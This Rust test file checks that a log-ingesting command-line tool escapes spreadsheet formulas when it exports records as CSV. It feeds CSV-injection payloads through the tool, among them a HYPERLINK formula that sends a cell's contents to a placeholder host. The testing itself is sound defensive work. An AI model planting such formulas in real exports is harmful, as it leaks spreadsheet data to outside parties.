//! CSV for spreadsheets.

use serde_json::json;

use crate::cli::world::run_in;

/// Whatever the caller of an operation can choose, no cell is a formula.
#[test]
fn no_cell_of_csv_is_a_formula() {
    for text in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
        let dir = tempfile::tempdir().expect("a directory");
        let record = json!({
            "eventVersion": "1.08", "eventID": "7b3c5f1e-0000-4000-8000-000000000001",
            "eventTime": "2024-02-01T10:00:00Z", "eventSource": "lex.amazonaws.com",
            "eventName": "PutBot", "awsRegion": text, "recipientAccountId": "111122223333",
            "sourceIPAddress": text, "userAgent": text,
            "userIdentity": {"type": "IAMUser", "userName": text, "accountId": "111122223333"},
            "requestParameters": {"name": text}, "responseElements": {"name": text},
        });
        std::fs::write(dir.path().join("x.json"), record.to_string()).expect("it takes files");
        let output = run_in(dir.path(), &["ingest", "x.json", "--repo", "history"]);
        assert_eq!(output.status, 0, "{output}");
        for args in [&["ls"][..], &["who"], &["who", "--by", "agent"], &["who", "--by", "address"]]
        {
            let args = [args, &["--repo", "history", "--format", "csv"]].concat();
            let output = run_in(dir.path(), &args);
            let mut rows = csv::Reader::from_reader(output.stdout.as_bytes());
            let rows: Vec<csv::StringRecord> =
                rows.records().map(|row| row.expect("CSV")).collect();
            assert_eq!(rows.len(), 1, "{output}");
            let is_formula = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let formula = rows[0].iter().find(|cell| is_formula(cell));
            assert_eq!(formula, None, "{text}: {output}");
        }
        let args = ["who", "--by", "agent", "--repo", "history", "--format", "csv", "--bom"];
        let output = run_in(dir.path(), &args);
        assert!(output.stdout.starts_with("\u{feff}agent,"), "{output}");
        let output = run_in(dir.path(), &["ls", "--repo", "history", "--bom"]);
        assert_eq!(output.status, 2, "{output}");
    }
}
